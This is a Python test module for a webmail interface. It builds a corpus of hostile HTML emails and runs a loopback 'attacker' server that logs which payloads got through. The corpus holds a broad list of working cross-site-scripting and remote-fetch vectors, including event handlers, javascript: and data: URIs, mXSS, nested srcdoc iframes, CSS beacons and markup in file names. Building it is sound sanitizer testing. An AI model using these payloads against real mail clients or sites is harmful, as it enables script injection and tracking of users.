"""
A corpus of hostile mail for the web UI, and the "attacker" web server it
tries to reach.

Every message's HTML tries to run script or to make the browser fetch
something from the attacker's origin.  A script that runs calls
C{self.pwned(name)} (a binding the test installs in every frame), sets
C{window.__pwned} and requests C{/beacon/<name>} from the attacker, so it
is caught whichever way it gets out.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from email.message import EmailMessage
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

# A 1x1 transparent GIF, the classic tracking pixel.
PIXEL = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
    b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)


@dataclass(frozen=True)
class Request:
    """
    One request the attacker's server got.
    """

    method: str
    path: str
    destination: str
    """C{Sec-Fetch-Dest}: what the browser fetched it as (C{image}, C{style}, ...)."""


class Attacker:
    """
    A web server on loopback that records every request it gets.
    """

    def __init__(self) -> None:
        self.requests: list[Request] = []
        self.lock = threading.Lock()
        self.port = 0

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def record(self, request: Request) -> None:
        with self.lock:
            self.requests.append(request)

    def take(self) -> list[Request]:
        """
        The requests so far, forgetting them.
        """
        with self.lock:
            taken, self.requests = self.requests, []
        return taken


@contextmanager
def running_attacker() -> Iterator[Attacker]:
    """
    Serve an L{Attacker} on a free loopback port for the duration.
    """
    attacker = Attacker()

    class Handler(BaseHTTPRequestHandler):
        def answer(self) -> None:
            destination = self.headers.get("Sec-Fetch-Dest", "")
            attacker.record(Request(self.command, self.path, destination))
            self.send_response(200)
            self.send_header("Content-Type", "image/gif")
            self.send_header("Content-Length", str(len(PIXEL)))
            self.end_headers()
            self.wfile.write(PIXEL)

        do_GET = do_POST = answer

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    attacker.port = server.server_address[1]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield attacker
    finally:
        server.shutdown()
        server.server_close()
        thread.join(10)


def beacon(name: str, origin: str) -> str:
    """
    Script that reports that it ran, every way it can (no double quotes, so
    it fits in an attribute).
    """
    return (
        f"self.pwned&&self.pwned('{name}');window.__pwned='{name}';"
        f"new Image().src='{origin}/beacon/{name}'"
    )


def corpus_html(origin: str) -> dict[str, str]:
    """
    The hostile HTML bodies by name; C{origin} is the attacker's.
    """
    a = origin
    run = {name: beacon(name, a) for name in _SCRIPTED}
    return {
        "script-inline": f"<script>{run['script-inline']}</script><p>inline script</p>",
        "script-src": f'<script src="{a}/evil.js"></script><p>remote script</p>',
        "img-onerror": f'<img src="x" onerror="{run["img-onerror"]}">',
        "body-onload": f'<body onload="{run["body-onload"]}"><p>body onload</p></body>',
        "svg-onload": f'<svg onload="{run["svg-onload"]}"></svg>',
        "svg-script": f"<svg><script>{run['svg-script']}</script></svg>",
        "svg-animate": (
            f'<svg><animate onbegin="{run["svg-animate"]}" attributeName="x" dur="1s"/></svg>'
        ),
        "details-toggle": f'<details open ontoggle="{run["details-toggle"]}">x</details>',
        "autofocus": f'<input autofocus onfocus="{run["autofocus"]}">',
        "mxss-noscript": (
            f'<noscript><p title="</noscript><img src=x onerror={run["mxss-noscript"]}>">'
            "</p></noscript>"
        ),
        "javascript-link": f'<a href="javascript:{run["javascript-link"]}">a javascript: link</a>',
        "javascript-iframe": f'<iframe src="javascript:{run["javascript-iframe"]}"></iframe>',
        "data-iframe": (
            f'<iframe src="data:text/html,<script>{run["data-iframe"]}</script>"></iframe>'
        ),
        "data-object": (
            f'<object data="data:text/html,<script>{run["data-object"]}</script>"></object>'
        ),
        "meta-refresh": f'<meta http-equiv="refresh" content="0;url={a}/refresh">',
        "meta-refresh-js": (
            f'<meta http-equiv="refresh" content="0;url=javascript:{run["meta-refresh-js"]}">'
        ),
        "base-href": f'<base href="{a}/"><img src="relative.png"><a href="rel">relative</a>',
        "form-post": (
            f'<form action="{a}/form" method="post"><input name="q" value="1">'
            '<button id="go">go</button></form>'
        ),
        "object": f'<object data="{a}/object.swf" type="application/x-shockwave-flash"></object>',
        "embed": f'<embed src="{a}/embed.swf">',
        "css-url": f'<div style="background:url({a}/background.png);height:20px">bg</div>',
        "css-import": f'<style>@import url("{a}/import.css");</style><p>import</p>',
        "css-link": f'<link rel="stylesheet" href="{a}/style.css"><p>link</p>',
        "css-font": (
            f"<style>@font-face{{font-family:evil;src:url({a}/font.woff2)}}"
            "p{font-family:evil}</style><p>font</p>"
        ),
        "remote-img": f'<img src="{a}/pixel.gif" width="1" height="1">',
        "srcset": f'<img srcset="{a}/srcset.gif 1x, {a}/srcset2.gif 2x">',
        "picture": (
            f'<picture><source srcset="{a}/picture.gif"><img src="{a}/fallback.gif"></picture>'
        ),
        "protocol-relative": f'<img src="//127.0.0.1:{a.rsplit(":", 1)[1]}/relative.gif">',
        "body-background": f'<body background="{a}/body.gif"><p>old-style background</p></body>',
        "svg-image": f'<svg><image href="{a}/svg-image.gif" width="1" height="1"/></svg>',
        "video-poster": f'<video poster="{a}/poster.gif" src="{a}/video.mp4"></video>',
        "iframe-remote": f'<iframe src="{a}/frame.html"></iframe>',
        "iframe-srcdoc": f'<iframe srcdoc="<script>{run["iframe-srcdoc"]}</script>"></iframe>',
        "iframe-nested": (
            "<iframe srcdoc=\"<iframe srcdoc='&lt;script&gt;"
            f"{run['iframe-nested'].replace(chr(39), '&quot;')}&lt;/script&gt;'></iframe>\">"
            "</iframe>"
        ),
        "link-prefetch": (
            f'<link rel="prefetch" href="{a}/prefetch"><link rel="dns-prefetch" href="{a}">'
        ),
        "ping": f'<a href="{a}/link" ping="{a}/ping">a link with ping</a>',
    }


_SCRIPTED = [
    "script-inline",
    "img-onerror",
    "body-onload",
    "svg-onload",
    "svg-script",
    "svg-animate",
    "details-toggle",
    "autofocus",
    "mxss-noscript",
    "javascript-link",
    "javascript-iframe",
    "data-iframe",
    "data-object",
    "meta-refresh-js",
    "iframe-srcdoc",
    "iframe-nested",
    "markup-names",
]

MARKUP_NAME = "<img src=x onerror=alert(1)>"
"""What the subject and the attachment's file name of one message are."""


def corpus(to: str, origin: str) -> list[tuple[str, EmailMessage]]:
    """
    Every hostile message for mailbox C{to}, by name (each message's
    subject starts with its name), plus one whose subject and attachment
    name are markup.
    """
    messages = []
    for name, html in corpus_html(origin).items():
        mail = EmailMessage()
        mail["From"] = "mallory@attacker.test"
        mail["To"] = to
        mail["Subject"] = f"{name} test"
        mail.set_content(f"hostile message {name}")
        mail.add_alternative(html, subtype="html")
        messages.append((name, mail))
    mail = EmailMessage()
    mail["From"] = "mallory@attacker.test"
    mail["To"] = to
    mail["Subject"] = f"markup-names {MARKUP_NAME}"
    mail.set_content("the subject and the file name are markup")
    mail.add_alternative(f"<p>{beacon('markup-names', origin)}</p>", subtype="html")
    mail.add_attachment(b"x", maintype="text", subtype="plain", filename=f"{MARKUP_NAME}.txt")
    messages.append(("markup-names", mail))
    return messages
